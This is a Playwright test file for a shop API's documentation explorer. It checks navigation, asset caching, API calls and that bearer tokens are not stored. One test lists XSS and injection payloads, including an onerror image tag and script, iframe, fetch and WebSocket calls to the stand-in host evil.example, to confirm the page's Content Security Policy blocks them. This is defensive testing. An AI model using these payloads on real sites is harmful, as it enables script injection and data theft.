"""The page as a mount serves it: the example, by ``contract serve``."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

from playwright.sync_api import ConsoleMessage, Page, expect

from contract.explorer import assets
from examples.shop.seed import DEMO_TOKENS
from tests.browser.conftest import VIOLATION, Open

ADDRESSES = """routes routes/place_order routes/opening_hours types types/NewOrderInput
    errors errors/OUT_OF_STOCK mcp tags/orders nope"""
PAGES = ("#/", *(f"#/{address}" for address in ADDRESSES.split()))


def test_every_page_keeps_the_policy_and_stays_at_home(visit: Open, shop_url: str) -> None:
    """What would be wrong, `visit` tells at the end."""
    page = visit(f"{shop_url}/docs/")
    for at in PAGES:
        page.goto(f"{shop_url}/docs/{at}")
        expect(page.locator("h1")).to_be_visible()
        for tab in page.locator("main [role=tab]").all():
            tab.click()


def test_without_its_slash_the_page_is_found(visit: Open, shop_url: str) -> None:
    page = visit(f"{shop_url}/docs#/types/Order")

    expect(page).to_have_url(f"{shop_url}/docs/#/types/Order")
    expect(page.locator("h1")).to_have_text("Order")


MADE = "Object.assign(document.createElement('{}'), {{ {}: 'https://evil.example/x' }})"
HIDING = "{ textContent: 'body { display: none }' }"
ATTEMPTS = [
    ("require-trusted-types-for", "document.body.innerHTML = '<img src=x onerror=window.pwned=1>'"),
    ("require-trusted-types-for", f"document.head.append({MADE.format('script', 'src')})"),
    ("require-trusted-types-for", f"document.head.append({MADE.format('script', 'text')})"),
    ("require-trusted-types-for", f"document.body.append({MADE.format('object', 'data')})"),
    ("require-trusted-types-for", "new Worker('data:text/javascript,1')"),
    ("require-trusted-types-for", "document.body.setAttribute('onclick', 'window.pwned = 1')"),
    ("trusted-types", "trustedTypes.createPolicy('default', { createHTML: text => text })"),
    ("style-src-attr", "document.body.setAttribute('style', 'display: none')"),
    ("style-src-elem", f"added(Object.assign(document.createElement('style'), {HIDING}))"),
    ("style-src-elem", f"added(Object.assign({MADE.format('link', 'href')}, {{ rel: 'stylesheet' }}))"),
    ("img-src", f"document.body.append({MADE.format('img', 'src')})"),
    ("connect-src", "fetch('https://evil.example/').catch(() => {})"),
    ("connect-src", "new WebSocket('wss://evil.example/')"),
    ("font-src", "new FontFace('x', 'url(https://evil.example/x.woff2)').load().catch(() => {})"),
    ("frame-src", f"document.body.append({MADE.format('iframe', 'src')})"),
    ("media-src", f"document.body.append({MADE.format('video', 'src')})"),
    ("base-uri", f"document.head.append({MADE.format('base', 'href')})"),
    ("form-action", f"added({MADE.format('form', 'action')}).submit()"),
]  # fmt: skip
ATTEMPT = """() => {
    const added = each => (document.head.append(each), each)
    try { %s } catch {}
}"""


def breaking(directive: str) -> Callable[[ConsoleMessage], bool]:
    """Whether a message says that this part of the policy was broken."""
    return lambda message: message.text.startswith(f"{VIOLATION}{directive} ")


def test_what_the_policy_forbids_is_not_done(visit: Open, shop_url: str) -> None:
    """Each attempt is told of, and leaves the page as it was for the next one."""
    page = visit(f"{shop_url}/docs/", watched=False)
    answered: list[str] = []
    page.on("response", lambda response: answered.append(response.url))

    for directive, attempt in ATTEMPTS:
        with page.expect_console_message(breaking(directive)):
            page.evaluate(ATTEMPT % attempt)
        page.mouse.click(1, 1)
        assert page.evaluate("window.pwned") is None, attempt
        assert page.evaluate("getComputedStyle(document.body).display") == "block", attempt
        assert page.url.startswith(shop_url), attempt
        assert all(url.startswith(shop_url) for url in answered), attempt


def test_no_other_page_can_frame_it(visit: Open, shop_url: str) -> None:
    page = visit(f"{shop_url}/docs/", watched=False)
    framing = f"<h1>x</h1><iframe src='{shop_url}/docs/'></iframe>"
    page.route("**/framing", lambda asked: asked.fulfill(body=framing, content_type="text/html"))
    with page.expect_console_message(lambda message: "frame-ancestors 'none'" in message.text):
        page.goto(f"{shop_url}/framing")


def test_files_are_asked_for_once(visit: Open, shop_url: str) -> None:
    page = visit(f"{shop_url}/docs/")
    page.reload()
    page.wait_for_selector("h1")

    taken = page.evaluate(
        "performance.getEntriesByType('resource').map(each => [each.name, each.transferSize])"
    )
    files = {url.rpartition("/")[2].split(".")[0]: size for url, size in taken if "/assets/" in url}
    assert files == dict.fromkeys((each.split(".")[0] for each in assets()), 0)


def test_links_open_in_a_new_tab_and_back_leads_back(visit: Open, shop_url: str) -> None:
    page = visit(f"{shop_url}/docs/#/types")
    with page.context.expect_page() as opened:
        page.locator("main a[href='#/types/Order']").first.click(modifiers=["Control"])
    other = opened.value
    other.wait_for_selector("h1")

    expect(other.locator("h1")).to_have_text("Order")
    expect(page.locator("h1")).to_have_text("Types")
    page.goto(f"{shop_url}/docs/#/routes/get_order")
    page.goto(f"{shop_url}/docs/#/errors/OUT_OF_STOCK")
    expect(page.locator("h1")).to_have_text("OUT_OF_STOCK")
    page.go_back()
    expect(page).to_have_url(re.compile("#/routes/get_order$"))
    page.go_back()
    expect(page.locator("h1")).to_have_text("Types")
    page.go_forward()
    expect(page).to_have_url(re.compile("#/routes/get_order$"))


def call(page: Page, path: str) -> tuple[dict[str, str], Any]:
    """What is sent to *path*, and the answer."""
    with page.expect_response(
        lambda response: response.url.endswith(path) and response.request.method == "POST"
    ) as answered:
        page.get_by_role("button", name="Send").click()
    return answered.value.request.all_headers(), answered.value.json()


def test_a_call_is_made(visit: Open, shop_url: str) -> None:
    page = visit(f"{shop_url}/docs/#/routes/category_tree")
    headers, answer = call(page, "/category_tree")

    assert not {"authorization", "referer"} & headers.keys()
    assert answer["children"]
    expect(page.locator(".result")).to_contain_text("200")
    expect(page.locator(".result")).to_contain_text(answer["id"])
    page.goto(f"{shop_url}/docs/#/routes/get_account")
    assert call(page, "/get_account")[1] == {"error": "UNAUTHORIZED"}


def asked(page: Page, url: str, input: Any) -> Any:
    """The answer to a call of a customer's, made beside the page."""
    headers = {"Authorization": f"Bearer {DEMO_TOKENS['ada']}"}
    return page.request.post(url, headers=headers, data=input).json()


def test_an_order_is_watched(visit: Open, shop_url: str) -> None:
    page = visit(f"{shop_url}/docs/#/routes/watch_order")
    lines = [{"product_id": "blue-mug"}]
    placed = asked(page, f"{shop_url}/place_order", {"lines": lines, "payment": {"kind": "cash"}})
    page.locator("input[type=password]").fill(DEMO_TOKENS["ada"])
    page.get_by_label("id* uuid").fill(placed["id"])
    page.get_by_role("button", name="Send").click()

    items = page.get_by_role("group", name="Items")
    expect(items).to_contain_text('"status":"placed"')
    asked(page, f"{shop_url}/cancel_order", {"id": placed["id"]})
    expect(page.locator(".facts strong")).to_have_text("1 item, then ORDER_CANCELLED")


KEPT = (
    "JSON.stringify([{ ...localStorage }, { ...sessionStorage }, location.href, document.cookie])"
)


def test_a_token_is_sent_and_kept_nowhere(visit: Open, shop_url: str) -> None:
    token = "ada.demo-token-of-a-customer"
    page = visit(f"{shop_url}/docs/#/routes/get_account")
    page.locator("input[type=password]").fill(f"Bearer {token}")
    headers, answer = call(page, "/get_account")

    assert headers["authorization"] == f"Bearer {token}"
    assert answer["name"]
    assert token not in page.evaluate(KEPT)
